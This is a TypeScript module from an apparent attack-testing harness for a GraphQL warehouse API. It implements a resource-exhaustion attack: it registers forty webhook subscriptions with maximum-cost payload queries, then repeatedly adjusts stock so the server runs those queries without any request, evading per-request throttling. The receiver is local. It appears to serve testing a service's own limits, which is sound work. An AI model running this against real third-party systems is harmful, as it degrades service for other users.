import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import type { Attack, Play } from "../attack.ts";
import { bodyOf, repeat, send } from "../attack.ts";

const subscriptions = 40;
/** Milliseconds between two bookings of forty products. */
const bookingMs = 1_000;

/** A payload query with the maximum cost. */
const payloadQuery = `query ($id: ID!) { node(id: $id) { id } customers(first: 1, filter: { OR: [${repeat(
  90,
  (n) => `{ lastName: { contains: "nothing like ${n}" } }`,
)}] }) { edges { node { id } } } }`;

export const subscribe = `mutation ($input: WebhookSubscriptionCreateInput!) {
  webhookSubscriptionCreate(input: $input) { webhookSubscription { id } userErrors { code message } } }`;

const book = `mutation ($lines: [StockAdjustLineInput!]!) {
  stockAdjust(input: { lines: $lines }) { userErrors { code message } } }`;

type UserErrors = readonly { message: string }[];

/** @throws if an operation was refused, because the attack would then do nothing */
function refuseErrors([error]: UserErrors = []): void {
  if (error) throw new Error(error.message);
}

/** Responses to the operations of this attack. */
interface Answered {
  webhookSubscriptionCreate: { userErrors: UserErrors };
  stockAdjust: { userErrors: UserErrors };
  stocks: { edges: { node: { productId: string; binLocationId: string } }[] };
  batches: { edges: { node: { product: { id: string } } }[] };
}

/**
 * Repeats the request while there are too few points.
 *
 * @returns null if the attack ended before
 * @throws if the response is wrong, because the attack would then do nothing
 */
async function ask(play: Play, query: string, variables?: object): Promise<Answered | null> {
  for (;;) {
    const text = await send(play, { token: play.token, body: bodyOf(query, variables) });
    const { data, errors } = JSON.parse(text || "{}") as {
      data?: Answered;
      errors?: { extensions: { code: string } }[];
    };
    const isThrottled = errors?.[0]?.extensions.code === "THROTTLED";
    if (data) return data;
    if (play.isOver()) return null;
    if (!isThrottled) throw new Error(text);
  }
}

/** A receiver on this machine, which accepts every message. */
async function startReceiver({ tally }: Play): Promise<string> {
  const server = createServer((request, response) => {
    request.resume();
    request.on("end", () => response.writeHead(204).end());
    tally.note("message");
  }).listen(0, "127.0.0.1");
  await once(server, "listening");
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

/** An attack by queries that run for each webhook message, without a request. */
export const payloadQueries: Attack = {
  name: "payload queries",
  what: "forty subscriptions whose payload queries are as costly as they may be",
  async prepare(play) {
    const url = await startReceiver(play);
    for (let n = 0; n < subscriptions && !play.isOver(); n++) {
      const input = { topic: "stock.changed", url: `${url}/${n}`, apiVersion: "unstable", payloadQuery };
      const data = await ask(play, subscribe, { input });
      refuseErrors(data?.webhookSubscriptionCreate.userErrors);
    }
  },
  async run(play) {
    const lines = await placesOf(play);
    while (!play.isOver()) {
      const data = await ask(play, book, { lines });
      refuseErrors(data?.stockAdjust.userErrors);
      await sleep(bookingMs);
    }
  },
};

/** Makes lines that each add one unit to the stock of one of forty products without batches. */
async function placesOf(play: Play): Promise<object[]> {
  const data = await ask(
    play,
    `{ stocks(first: 250, filter: { locationTypeTechnicalName: { equals: "bin_location" } }) {
      edges { node { productId binLocationId } } }
      batches(first: 250) { edges { node { product { id } } } } }`,
  );
  if (!data) return [];
  const inBatches = new Set(data.batches.edges.map(({ node }) => node.product.id));
  return data.stocks.edges
    .filter(({ node }) => !inBatches.has(node.productId))
    .slice(0, subscriptions)
    .map(({ node: { productId, binLocationId } }) => ({ productId, place: { binLocationId }, delta: 1 }));
}
